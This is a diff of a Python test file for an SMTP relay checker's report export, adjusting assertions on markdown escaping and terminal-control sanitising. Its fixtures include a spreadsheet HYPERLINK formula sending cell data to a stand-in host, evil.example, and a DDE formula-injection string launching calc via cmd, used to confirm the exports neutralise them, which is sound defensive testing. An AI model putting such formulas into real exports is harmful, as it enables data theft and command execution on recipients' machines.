@@ -26,6 +26,7 @@ from checks.report.export import (
 )
 from checks.report.reader import ImportedReport, ReportFormatError, read_report
 from checks.report.table import render_table, safe_text
+from checks.safe_text import plain
 
 STARTED = dt.datetime(2026, 11, 28, 10, 0, 5, 123456, tzinfo=dt.UTC)
 HOSTILE_REPLY = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -173,24 +174,25 @@ def test_markdown_has_header_table_and_problem_sections():
     # Then the header names verdict, host, profile, run id and date
     assert text.startswith("## ❌ SMTP relay check: 1 problem to fix")
     for expected in ("smtp.gmail.com:587", "| Profile | gmail |", "| Run | run0001 |", "2026-11-28T10:00:05"):
-        assert expected in text
+        assert expected in plain(text)
     # And the table escapes pipes and line breaks so each result stays one row
     table_rows = [line for line in text.splitlines() if line.startswith("| ") and "`" in line]
     assert len(table_rows) == 4
     assert "odd \\| but fine" in table_rows[1]
     # And each non-pass result has a section; the reply sits in a fence longer than its own backticks
-    assert "### ❌ fail: SMTP sign-in (`auth.credentials`)" in text
+    assert "### ❌ fail: SMTP sign-in (`auth.credentials`)" in plain(text)
     assert "### ⚠️ warn: Relay host name resolves (`dns.host`)" in text
     assert "### ✅" not in text
     assert "````text\n535-5.7.8 Username and Password not accepted ``` &lt;b&gt;" not in text
     assert "````text\n535-5.7.8 Username and Password not accepted ``` <b>x</b>\n````" in text
-    assert "**Fix:** +cmd\\|" not in text and "**Fix:** +cmd|' /C calc'!A0" in text
-    assert "**Setup guide:** Gmail or G Suite &gt; Creating an app password" in text
+    assert "**Fix:** \\+cmd\\|" in text and "**Fix:** +cmd|' /C calc'!A0" in plain(text)
+    assert "**Setup guide:** Gmail or G Suite \\> Creating an app password" in text
+
 
 
 def test_markdown_cell_escaping():
     assert md_cell("a | b\nc\r\nd") == "a \\| b<br>c<br>d"
-    assert md_cell("<script>") == "&lt;script&gt;"
+    assert md_cell("<script>") == "\\<script\\>"
 
 
 def test_verdict_line_counts_problems_and_warnings():
@@ -401,7 +403,7 @@ def test_table_shows_problems_and_escapes_terminal_controls():
     assert "Fix: Use an app password." in text and "Setup guide: Gmail > App password" in text
     assert "C: EHLO x" in text
     assert text.rstrip().endswith("1 problem to fix")
-    assert safe_text("a\u202eb") == "ab"
+    assert safe_text("a\u202eb") == "a\\u202eb"
 
 
 def test_imported_report_with_a_warning_row_counts_the_warning():
